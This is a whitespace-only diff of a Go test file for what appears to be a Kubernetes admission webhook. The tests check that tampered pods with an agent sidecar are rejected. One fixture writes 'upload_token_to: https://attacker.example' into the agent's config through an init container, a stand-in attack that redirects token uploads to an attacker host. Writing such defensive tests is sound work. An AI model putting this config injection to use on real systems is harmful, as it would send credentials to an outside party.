@@ -63,9 +63,9 @@ func TestReviewPinToAnyDigestOfTheRepository(t *testing.T) {
 	// Blocked variants, logged.
 	for _, image := range []string{
 		"registry.example.com/agent:1.4.0@sha256:DEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEF", // uppercase hex
-		"registry.example.com:5000/agent@sha256:" + hex64,                                                       // port, no tag
-		"registry.example.com/agent@sha256:" + hex64,                                                            // tag dropped
-		"registry.example.com/agent:1.4.0@sha256:" + hex64 + "@sha256:" + hex64,                                 // pinned twice
+		"registry.example.com:5000/agent@sha256:" + hex64,                                                          // port, no tag
+		"registry.example.com/agent@sha256:" + hex64,                                                               // tag dropped
+		"registry.example.com/agent:1.4.0@sha256:" + hex64 + "@sha256:" + hex64,                                    // pinned twice
 	} {
 		p := confinedPod()
 		rec := sealConfined(t, r, p)
@@ -117,7 +117,7 @@ func TestReviewTenantInitBeforeARegularSidecar(t *testing.T) {
 	pod := confinedPod()
 	rec := sealConfined(t, r, pod)
 	pod.Spec.InitContainers = append(pod.Spec.InitContainers, corev1.Container{Name: "prep", Image: "attacker/prep",
-		Command: []string{"sh", "-c", "echo 'upload_token_to: https://attacker.example' > /work/agent.yaml"},
+		Command:      []string{"sh", "-c", "echo 'upload_token_to: https://attacker.example' > /work/agent.yaml"},
 		VolumeMounts: []corev1.VolumeMount{{Name: "agent-work", MountPath: "/work"}}})
 	if err := r.Verify(pod, "uid", false, rec); err == nil {
 		t.Errorf("HOLE: an init container of the tenant's that runs before the (regular) sidecar and writes its emptyDir verifies " +
@@ -245,7 +245,7 @@ func TestReviewAdditionsBlocked(t *testing.T) {
 			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts, corev1.VolumeMount{Name: "app-data", MountPath: "/etc/agent", MountPropagation: &b})
 		}, true},
 		"readOnly flip of the webhook's mount": {func(p *corev1.Pod) { p.Spec.Containers[1].VolumeMounts[0].ReadOnly = true }, true},
-		"subPathExpr on the webhook's mount": {func(p *corev1.Pod) { p.Spec.Containers[1].VolumeMounts[0].SubPathExpr = "$(NS)" }, true},
+		"subPathExpr on the webhook's mount":   {func(p *corev1.Pod) { p.Spec.Containers[1].VolumeMounts[0].SubPathExpr = "$(NS)" }, true},
 	} {
 		pod, rec := signedPod(t, r)
 		tc.edit(pod)
